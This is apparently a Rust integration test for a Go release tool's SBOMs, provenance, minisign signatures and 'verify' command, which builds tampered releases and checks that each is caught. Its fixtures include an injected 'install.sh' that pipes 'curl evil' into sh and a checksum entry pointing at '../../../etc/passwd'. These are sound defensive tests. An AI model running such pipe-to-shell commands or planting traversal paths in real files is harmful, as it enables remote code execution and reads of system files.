//! SBOMs, provenance, signatures and `cargo xtask verify` (issue 19), on a real-looking Go repository
//! adopted as the README says (a vendored module, replaced by a directory): every document checked by
//! its format's own validator, the signatures by minisign itself, the SBOMs against `go version -m`,
//! and a release from a compromised toolchain caught by `verify --rebuild`.

mod common;

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::*;
use serde_json::Value;

const SETTINGS: &str = r#"[app]
dir = "."
name = "tool"

[[binaries]]
main = "./cmd/tool"

[[binaries]]
main = "./cmd/toolctl"

[build]
# A value from the caller's environment (a token, say): never in a published file.
env = { TOOL_TOKEN = "{{ .Env.XTASK_TEST_TOKEN }}" }

[targets]
list = ["linux/amd64", "linux/arm64", "windows/amd64"]

[[images]]
name = "ghcr.io/acme/tool"
binary = "tool"

[sbom]

[provenance]

[sign]
required = true
"#;

const PASSWORD: &str = "correct-horse-battery-7f3a";
const TOKEN: &str = "tok-9c1e-not-for-publishing";

/// The validators `.ci/run` installs in a venv (spdx-tools, cyclonedx-python-lib, in-toto-attestation)
/// and names in these variables; else from PATH.
fn validator(var: &str, program: &str) -> String {
    let found = std::env::var(var).ok().or_else(|| {
        let path = std::env::var_os("PATH")?;
        std::env::split_paths(&path).map(|d| d.join(program)).find(|p| p.is_file()).map(|p| p.display().to_string())
    });
    found.unwrap_or_else(|| panic!("{program} is needed: set {var}, or run .ci/run, which installs it"))
}

fn python() -> String {
    validator("XTASK_SBOM_PYTHON", "python3")
}

fn pyspdxtools() -> String {
    validator("XTASK_PYSPDXTOOLS", "pyspdxtools")
}

/// CycloneDX 1.6 by cyclonedx-python-lib's strict JSON schema validator; the provenance by the in-toto
/// attestation framework's own bindings (the Statement's `validate`, the SLSA v1 predicate parsed strictly).
const VALIDATE_PY: &str = r#"
import json, sys
kind, path = sys.argv[1], sys.argv[2]
text = open(path).read()
if kind == "cdx":
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator
    err = JsonStrictValidator(SchemaVersion.V1_6).validate_str(text)
    if err:
        sys.exit(f"{path}: {err}")
else:
    from google.protobuf import json_format
    from in_toto_attestation.v1 import statement_pb2
    from in_toto_attestation.v1.statement import Statement
    from in_toto_attestation.predicates.provenance.v1 import provenance_pb2
    d = json.loads(text)
    Statement.copy_from_pb(json_format.ParseDict(d, statement_pb2.Statement())).validate()
    p = json_format.ParseDict(d["predicate"], provenance_pb2.Provenance())
    assert p.build_definition.build_type and p.run_details.builder.id, "buildType and builder.id"
"#;

/// The fixture with its vendored module replaced by a directory, adopted, tagged v2.0.1; a minisign
/// key pair made by minisign itself (encrypted with a password, as `minisign -G` makes them).
fn adopted(keys: &Path) -> Repo {
    let repo = Repo::new();
    repo.write(
        "go.mod",
        "module example.com/tool\n\ngo 1.22\n\nrequire example.invalid/greet v1.0.0\n\nreplace example.invalid/greet => ./third_party/greet\n",
    );
    repo.write("third_party/greet/go.mod", "module example.invalid/greet\n\ngo 1.22\n");
    repo.write("third_party/greet/greet.go", "package greet\n\nfunc Hello() string { return \"hello\" }\n");
    repo.write(
        "vendor/modules.txt",
        "# example.invalid/greet v1.0.0 => ./third_party/greet\n## explicit; go 1.22\nexample.invalid/greet\n# example.invalid/greet => ./third_party/greet\n",
    );
    repo.adopt(SETTINGS);
    repo.commit_all("cargo xtask adopt");
    repo.git(&["remote", "add", "origin", "https://github.com/acme/tool.git"]);
    repo.git(&["tag", "v2.0.1"]);
    fs::create_dir_all(keys).unwrap();
    let mut gen = Command::new("sh");
    gen.arg("-c").arg(format!("printf '{PASSWORD}\\n{PASSWORD}\\n' | minisign -G -p pub -s sec")).current_dir(keys);
    run_ok(&mut gen);
    repo
}

fn dist(repo: &Repo, out: &Path, keys: &Path, path: &str) -> Command {
    let mut cmd = repo.xtask(&["dist", "--engine", "host", "--out", out.to_str().unwrap()]);
    cmd.env("PATH", path).env("XTASK_MINISIGN_KEY", keys.join("sec")).env("XTASK_MINISIGN_PASSWORD", PASSWORD);
    cmd.env("XTASK_TEST_TOKEN", TOKEN);
    cmd
}

fn verify(repo: &Repo, dir: &Path, keys: &Path, extra: &[&str]) -> Command {
    let mut args = vec!["verify", dir.to_str().unwrap(), "--key"];
    let public = keys.join("pub");
    args.push(public.to_str().unwrap());
    args.extend(extra);
    let mut cmd = repo.xtask(&args);
    // A rebuild needs what the settings read from the environment, as the build did.
    cmd.env("PATH", path_with_pinned_go()).env("CARGO_TARGET_DIR", heavy_target_dir()).env("XTASK_TEST_TOKEN", TOKEN);
    cmd
}

fn minisign_verifies(file: &Path, keys: &Path) -> bool {
    Command::new("minisign").arg("-Vm").arg(file).arg("-p").arg(keys.join("pub")).output().unwrap().status.success()
}

/// `go version -m`'s modules of a binary: (kind, path, version, sum) of each `mod`, `dep` and `=>` line.
fn go_modules(binary: &Path) -> BTreeSet<(String, String, String)> {
    let mut cmd = Command::new(pinned_go());
    let out = String::from_utf8(run_ok(cmd.arg("version").arg("-m").arg(binary)).stdout).unwrap();
    out.lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.trim_start_matches('\t').split('\t').collect();
            matches!(f[0], "mod" | "dep" | "=>").then(|| {
                let get = |i: usize| f.get(i).copied().unwrap_or_default().to_owned();
                (get(1), get(2), get(3))
            })
        })
        .collect()
}

fn json(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
#[ignore = "heavy: builds a Go repository for 3 targets twice, compiles its xtask for --rebuild; needs minisign and \
            the validators .ci/run installs"]
fn a_release_says_what_it_holds_how_it_was_built_and_who_signed_it() {
    let work = tempfile::tempdir().unwrap();
    let keys = work.path().join("keys");
    let repo = adopted(&keys);
    let out = repo.out();

    // `sign.required`: no key, no build.
    let mut unsigned = repo.xtask(&["dist", "--engine", "host"]);
    let err = run_err(
        unsigned.env("PATH", path_with_pinned_go()).env_remove("XTASK_MINISIGN_KEY").env("XTASK_TEST_TOKEN", TOKEN),
    );
    assert!(err.contains("`sign.required` is set but XTASK_MINISIGN_KEY is not"), "{err}");

    run_ok(&mut dist(&repo, &out, &keys, &path_with_pinned_go()));
    let first = snapshot(&out);
    let sums = fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    let listed: Vec<&str> = sums.lines().map(|l| &l[66..]).collect();
    let mut want = vec!["manifest.json".to_owned()];
    for file in [
        "tool_2.0.1_linux_amd64.tar.gz",
        "tool_2.0.1_linux_arm64.tar.gz",
        "tool_2.0.1_windows_amd64.zip",
        "tool_2.0.1_image.tar",
    ] {
        want.extend([file.to_owned(), format!("{file}.cdx.json"), format!("{file}.spdx.json")]);
    }
    want.sort();
    assert_eq!(listed, want, "{sums}");
    run_ok(Command::new("sha256sum").args(["-c", "--quiet", "SHA256SUMS"]).current_dir(&out));

    // Each document by its format's validator.
    let validate = work.path().join("validate.py");
    fs::write(&validate, VALIDATE_PY).unwrap();
    for file in listed.iter().filter(|f| f.ends_with(".spdx.json")) {
        let o = run_ok(Command::new(pyspdxtools()).arg("--infile").arg(out.join(file)));
        let said = String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
        assert!(!said.to_lowercase().contains("invalid") && !said.contains("error"), "{file}: {said}");
    }
    for file in listed.iter().filter(|f| f.ends_with(".cdx.json")) {
        run_ok(Command::new(python()).arg(&validate).arg("cdx").arg(out.join(file)));
    }
    let provenance = out.join("tool_2.0.1.intoto.json");
    run_ok(Command::new(python()).arg(&validate).arg("provenance").arg(&provenance));

    // The provenance's subjects are exactly the checksum file's entries; it records each build.
    let statement = json(&provenance);
    let mut subjects: Vec<(String, String)> = statement["subject"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["name"].as_str().unwrap().to_owned(), s["digest"]["sha256"].as_str().unwrap().to_owned()))
        .collect();
    subjects.sort();
    let mut entries: Vec<(String, String)> = sums.lines().map(|l| (l[66..].to_owned(), l[..64].to_owned())).collect();
    entries.sort();
    assert_eq!(subjects, entries);
    let commit = String::from_utf8(repo.git(&["rev-parse", "HEAD"]).stdout).unwrap().trim().to_owned();
    let deps = &statement["predicate"]["buildDefinition"]["resolvedDependencies"];
    assert_eq!(deps[0]["uri"], format!("git+https://github.com/acme/tool@{commit}"));
    assert_eq!(deps[0]["digest"]["gitCommit"], commit.as_str());
    // A Go found on PATH is named by its version (the fetched one by its module zip: fresh_machine.rs;
    // the build image by digest: dagger_engine.rs).
    assert_eq!(deps[1], serde_json::json!({ "name": "go", "annotations": { "go": "go1.26.8" } }));
    let builds = &statement["predicate"]["buildDefinition"]["internalParameters"]["builds"];
    assert_eq!(builds.as_array().unwrap().len(), 3, "{builds}");
    assert_eq!((builds[0]["argv"][0][0].as_str(), builds[0]["argv"][0][1].as_str()), (Some("go"), Some("build")));

    // Every SBOM lists exactly the modules `go version -m` reads from its binaries, with their versions.
    for (archive, binaries) in [
        ("tool_2.0.1_linux_amd64.tar.gz", vec!["linux/amd64/tool", "linux/amd64/toolctl"]),
        ("tool_2.0.1_windows_amd64.zip", vec!["windows/amd64/tool.exe", "windows/amd64/toolctl.exe"]),
        ("tool_2.0.1_image.tar", vec!["linux/amd64/tool", "linux/arm64/tool"]),
    ] {
        let mut modules = BTreeSet::new();
        for b in &binaries {
            modules.extend(go_modules(&out.join(b)));
        }
        assert!(modules.iter().any(|m| m.0 == "./third_party/greet"), "the replacement: {modules:?}");
        let want: BTreeSet<(String, String)> = modules.iter().map(|m| (m.0.clone(), m.1.clone())).collect();
        let spdx = json(&out.join(format!("{archive}.spdx.json")));
        let cdx = json(&out.join(format!("{archive}.cdx.json")));
        let binary_names: BTreeSet<String> =
            binaries.iter().map(|b| b.rsplit('/').next().unwrap().to_owned()).collect();
        let skip = |name: &str| name == archive || binary_names.contains(name);
        // Every (name, version) of a document's list but the file and its binaries.
        let listed = |items: &Value, version: &str| -> BTreeSet<(String, String)> {
            let items = items.as_array().unwrap().iter().filter(|p| !skip(p["name"].as_str().unwrap()));
            items
                .map(|p| (p["name"].as_str().unwrap().to_owned(), p[version].as_str().unwrap_or_default().to_owned()))
                .collect()
        };
        assert_eq!(listed(&spdx["packages"], "versionInfo"), want, "{archive}.spdx.json");
        assert_eq!(listed(&cdx["components"], "version"), want, "{archive}.cdx.json");
        let archive_sha = &entries.iter().find(|e| e.0 == archive).unwrap().1;
        assert!(spdx.to_string().contains(archive_sha.as_str()) && cdx.to_string().contains(archive_sha.as_str()));
    }

    // The signatures, by minisign itself; a one-byte change fails.
    assert!(minisign_verifies(&out.join("SHA256SUMS"), &keys));
    assert!(minisign_verifies(&provenance, &keys));
    let tampered = work.path().join("tampered");
    copy_dir(&out, &tampered);
    let mut bytes = fs::read(tampered.join("SHA256SUMS")).unwrap();
    bytes[0] = if bytes[0] == b'0' { b'1' } else { b'0' };
    fs::write(tampered.join("SHA256SUMS"), &bytes).unwrap();
    assert!(!minisign_verifies(&tampered.join("SHA256SUMS"), &keys), "a changed checksum file still verifies");
    let secret = fs::read_to_string(keys.join("sec")).unwrap();
    for (name, bytes) in &first {
        let text = String::from_utf8_lossy(bytes);
        assert!(!text.contains(secret.lines().nth(1).unwrap()) && !text.contains(PASSWORD), "{name} holds the key");
        assert!(!text.contains(TOKEN), "{name} holds the value of XTASK_TEST_TOKEN");
    }
    let recorded = &statement["predicate"]["buildDefinition"]["internalParameters"]["builds"][0]["env"]["TOOL_TOKEN"];
    assert_eq!(recorded, "{{ .Env.XTASK_TEST_TOKEN }}", "the build's environment, as the template that filled it");

    // `verify` as a downloader: passes, then names what is wrong.
    let said = String::from_utf8(run_ok(&mut verify(&repo, &out, &keys, &[])).stderr).unwrap();
    assert!(said.contains("SHA256SUMS: 13 of 13 files match") && said.contains("verifies"), "{said}");
    let err = run_err(&mut verify(&repo, &tampered, &keys, &[]));
    assert!(err.contains("FAIL  SHA256SUMS.minisig: does not verify SHA256SUMS"), "{err}");
    let damaged = work.path().join("damaged");
    copy_dir(&out, &damaged);
    fs::write(damaged.join("tool_2.0.1_windows_amd64.zip"), b"not the zip").unwrap();
    fs::remove_file(damaged.join("tool_2.0.1_image.tar.cdx.json")).unwrap();
    fs::write(damaged.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let err = run_err(&mut verify(&repo, &damaged, &keys, &[]));
    assert!(err.contains("FAIL  tool_2.0.1_windows_amd64.zip: its SHA-256 is not the one SHA256SUMS gives"), "{err}");
    assert!(err.contains("FAIL  tool_2.0.1_image.tar.cdx.json: listed in SHA256SUMS, but missing"), "{err}");
    assert!(err.contains("FAIL  tool_2.0.1_image.tar.cdx.json: missing (the SBOM of tool_2.0.1_image.tar)"), "{err}");
    assert!(err.contains("FAIL  install.sh: not part of the release"), "{err}");
    // A provenance whose subjects were edited, a checksum file pointing out of the folder, an older
    // release's signed checksum file: each named, nothing outside the folder read.
    let forged_provenance = work.path().join("forged-provenance");
    copy_dir(&out, &forged_provenance);
    let text = fs::read_to_string(forged_provenance.join("tool_2.0.1.intoto.json")).unwrap();
    let windows_sha = &entries.iter().find(|e| e.0 == "tool_2.0.1_windows_amd64.zip").unwrap().1;
    fs::write(forged_provenance.join("tool_2.0.1.intoto.json"), text.replace(windows_sha.as_str(), &"0".repeat(64)))
        .unwrap();
    let err = run_err(&mut verify(&repo, &forged_provenance, &keys, &[]));
    assert!(err.contains("FAIL  tool_2.0.1.intoto.json.minisig: does not verify tool_2.0.1.intoto.json"), "{err}");
    assert!(
        err.contains("FAIL  tool_2.0.1.intoto.json: its subjects are not SHA256SUMS's entries")
            && err.contains("tool_2.0.1_windows_amd64.zip"),
        "{err}"
    );
    let escaping = work.path().join("escaping");
    copy_dir(&out, &escaping);
    let mut sums_text = fs::read_to_string(escaping.join("SHA256SUMS")).unwrap();
    sums_text.push_str(&format!("{}  ../../../etc/passwd\n", "0".repeat(64)));
    fs::write(escaping.join("SHA256SUMS"), sums_text).unwrap();
    let err = run_err(&mut verify(&repo, &escaping, &keys, &[]));
    assert!(
        err.contains("FAIL  ../../../etc/passwd: listed in SHA256SUMS, but not a file name inside the release"),
        "{err}"
    );

    // A second run: the same bytes, signatures included; the SBOMs carried over (the same files).
    let inode = |name: &String| std::os::unix::fs::MetadataExt::ino(&fs::metadata(out.join(name)).unwrap());
    let sbom_files: Vec<String> =
        first.keys().filter(|n| n.ends_with(".spdx.json") || n.ends_with(".cdx.json")).cloned().collect();
    assert_eq!(sbom_files.len(), 8, "{sbom_files:?}");
    let inodes: Vec<u64> = sbom_files.iter().map(inode).collect();
    run_ok(&mut dist(&repo, &out, &keys, &path_with_pinned_go()));
    assert!(snapshot(&out) == first, "a second run changed the release");
    assert_eq!(sbom_files.iter().map(inode).collect::<Vec<_>>(), inodes, "the SBOMs were written again");

    // A toolchain that slips something into the linux/amd64 builds: the release it makes is consistent
    // and signed, and only rebuilding shows it is not what the commit builds.
    let forged = work.path().join("forged");
    let evil = go_wrapper(
        work.path(),
        "evil-go",
        "if [ \"$1\" = build ] && [ \"$GOOS/$GOARCH\" = linux/amd64 ]; then export GOFLAGS=-gcflags=all=-N; fi",
    );
    run_ok(&mut dist(&repo, &forged, &keys, &evil));
    run_ok(&mut verify(&repo, &forged, &keys, &[]));
    let scratch = || -> BTreeSet<PathBuf> {
        let entries = fs::read_dir(std::env::temp_dir()).unwrap().flatten().map(|e| e.path());
        entries.filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("xtask-verify-")).collect()
    };
    let before = scratch();
    let err = run_err(&mut verify(&repo, &forged, &keys, &["--rebuild", "--engine", "host"]));
    let differing =
        err.split(" file(s): ").nth(1).and_then(|rest| rest.split(" (the release:").next()).unwrap_or_default();
    let mut differing: Vec<&str> = differing.split(", ").collect();
    differing.sort();
    // The linux/amd64 binaries are in the archive, the image (linux/amd64 is one of its platforms),
    // and so in both of their SBOMs; nothing else.
    assert_eq!(
        differing,
        [
            "tool_2.0.1_image.tar",
            "tool_2.0.1_image.tar.cdx.json",
            "tool_2.0.1_image.tar.spdx.json",
            "tool_2.0.1_linux_amd64.tar.gz",
            "tool_2.0.1_linux_amd64.tar.gz.cdx.json",
            "tool_2.0.1_linux_amd64.tar.gz.spdx.json"
        ],
        "{err}"
    );
    // The differing rebuild is kept where the error says, for a look; nothing else is left.
    let kept: Vec<PathBuf> = scratch().difference(&before).cloned().collect();
    assert!(kept.len() == 1 && err.contains(&format!("the rebuild is in {})", kept[0].display())), "{kept:?}: {err}");
    fs::remove_dir_all(&kept[0]).unwrap();
    let said =
        String::from_utf8(run_ok(&mut verify(&repo, &out, &keys, &["--rebuild", "--engine", "host"])).stderr).unwrap();
    assert!(said.contains("all 12 files but manifest.json are byte-identical"), "{said}");
    assert_eq!(scratch(), before, "a rebuild that matched left its directory behind");

    // A key without a password, as `minisign -G -W` writes it, signs too.
    let bare_keys = work.path().join("bare-keys");
    fs::create_dir(&bare_keys).unwrap();
    run_ok(Command::new("minisign").args(["-G", "-W", "-p", "pub", "-s", "sec"]).current_dir(&bare_keys));
    let bare = work.path().join("bare");
    let mut cmd = dist(&repo, &bare, &bare_keys, &path_with_pinned_go());
    run_ok(cmd.env_remove("XTASK_MINISIGN_PASSWORD"));
    assert!(minisign_verifies(&bare.join("SHA256SUMS"), &bare_keys));
    assert!(!minisign_verifies(&bare.join("SHA256SUMS"), &keys), "verified with another key");
}

/// A module zip as the Go module proxy serves it: every file under `<path>@<version>/`.
fn module_zip(path: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, text) in files {
        zip.start_file(format!("{path}@{version}/{name}"), zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// `GOPROXY=file://DIR` serving `path@version` with one package.
fn serve(proxy: &Path, path: &str, version: &str, go: &str) {
    let dir = proxy.join(path).join("@v");
    fs::create_dir_all(&dir).unwrap();
    let module = format!("module {path}\n\ngo 1.22\n");
    fs::write(dir.join(format!("{version}.mod")), &module).unwrap();
    fs::write(
        dir.join(format!("{version}.info")),
        format!("{{\"Version\":\"{version}\",\"Time\":\"2023-01-01T00:00:00Z\"}}"),
    )
    .unwrap();
    let zip = module_zip(path, version, &[("go.mod", &module), ("lib.go", go)]);
    fs::write(dir.join(format!("{version}.zip")), zip).unwrap();
    let list = dir.join("list");
    let before = fs::read_to_string(&list).unwrap_or_default();
    fs::write(list, format!("{before}{version}\n")).unwrap();
}

#[test]
#[ignore = "heavy: builds a Go repository; needs the validators .ci/run installs"]
fn sboms_carry_the_module_sums_go_version_m_prints() {
    // A module-mode repository (no vendor/): two dependencies from a module proxy (a local one), one
    // replaced by another version, so the build info holds `h1:` sums for a dep and a replacement.
    let work = tempfile::tempdir().unwrap();
    let proxy = work.path().join("proxy");
    serve(&proxy, "example.invalid/greet", "v1.0.0", "package greet\n\nfunc Hello() string { return \"hello\" }\n");
    serve(&proxy, "example.invalid/color", "v0.1.0", "package color\n\nfunc Name() string { return \"red\" }\n");
    serve(&proxy, "example.invalid/color", "v0.2.0", "package color\n\nfunc Name() string { return \"blue\" }\n");
    let goproxy = format!("file://{}", proxy.display());
    let repo = Repo::new();
    fs::remove_dir_all(repo.path().join("vendor")).unwrap();
    repo.write(
        "go.mod",
        "module example.com/tool\n\ngo 1.22\n\nrequire (\n\texample.invalid/color v0.1.0\n\texample.invalid/greet v1.0.0\n)\n\n\
         replace example.invalid/color v0.1.0 => example.invalid/color v0.2.0\n",
    );
    repo.write(
        "cmd/tool/main.go",
        "package main\n\nimport (\n\t\"fmt\"\n\n\t\"example.invalid/color\"\n\t\"example.invalid/greet\"\n)\n\n\
         var (\n\tversion = \"dev\"\n\tcommit  = \"none\"\n\tdate    = \"unknown\"\n)\n\n\
         func main() { fmt.Println(greet.Hello(), color.Name(), version, commit, date) }\n",
    );
    let mut tidy = Command::new(pinned_go());
    tidy.args(["mod", "tidy"])
        .current_dir(repo.path())
        .env("GOPROXY", &goproxy)
        .env("GOSUMDB", "off")
        .env("GOFLAGS", "-mod=mod");
    run_ok(tidy.env("GOMODCACHE", work.path().join("modcache")));
    assert!(fs::read_to_string(repo.path().join("go.sum")).unwrap().contains("example.invalid/color v0.2.0 h1:"));
    repo.adopt("[app]\ndir = \".\"\nname = \"tool\"\n\n[[binaries]]\nmain = \"./cmd/tool\"\n\n[targets]\nlist = [\"linux/amd64\"]\n\n[sbom]\n");
    repo.commit_all("module mode");

    let mut dist = repo.xtask(&["dist", "--engine", "host"]);
    dist.env("PATH", path_with_pinned_go()).env("GOPROXY", &goproxy).env("GOSUMDB", "off");
    run_ok(dist.env("GOMODCACHE", work.path().join("modcache-dist")));
    let out = repo.out();
    let modules = go_modules(&out.join("linux/amd64/tool"));
    let sums: Vec<&(String, String, String)> = modules.iter().filter(|m| m.2.starts_with("h1:")).collect();
    assert_eq!(sums.len(), 2, "greet and color's replacement have sums: {modules:?}");
    let spdx = json(&out.join("tool_0.0.0-dev_linux_amd64.tar.gz.spdx.json"));
    let cdx = json(&out.join("tool_0.0.0-dev_linux_amd64.tar.gz.cdx.json"));
    let from_spdx: BTreeSet<(String, String, String)> = spdx["packages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| {
            p["externalRefs"].to_string().contains("pkg:golang/") || p["name"].as_str().unwrap().starts_with("example.")
        })
        .map(|p| {
            let sum = p["comment"].as_str().unwrap_or_default().lines().find_map(|l| l.strip_prefix("golang:sum="));
            (
                p["name"].as_str().unwrap().to_owned(),
                p["versionInfo"].as_str().unwrap_or_default().to_owned(),
                sum.unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert_eq!(from_spdx, modules, "SPDX");
    let from_cdx: BTreeSet<(String, String, String)> = cdx["components"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["type"] == "library")
        .map(|c| {
            let props = c["properties"].as_array().cloned().unwrap_or_default();
            let sum =
                props.iter().find(|p| p["name"] == "golang:sum").and_then(|p| p["value"].as_str()).unwrap_or_default();
            (
                c["name"].as_str().unwrap().to_owned(),
                c["version"].as_str().unwrap_or_default().to_owned(),
                sum.to_owned(),
            )
        })
        .collect();
    assert_eq!(from_cdx, modules, "CycloneDX");
    // The SHA-256 each sum encodes, as syft writes it, in both.
    for (path, _, sum) in sums {
        use base64::Engine;
        let hex: String = base64::engine::general_purpose::STANDARD
            .decode(sum.trim_start_matches("h1:"))
            .unwrap()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert!(spdx.to_string().contains(&hex) && cdx.to_string().contains(&hex), "{path}: {hex}");
    }
    run_ok(Command::new(pyspdxtools()).arg("--infile").arg(out.join("tool_0.0.0-dev_linux_amd64.tar.gz.spdx.json")));
    run_ok(
        Command::new(python())
            .args(["-c", VALIDATE_PY, "cdx"])
            .arg(out.join("tool_0.0.0-dev_linux_amd64.tar.gz.cdx.json")),
    );
}
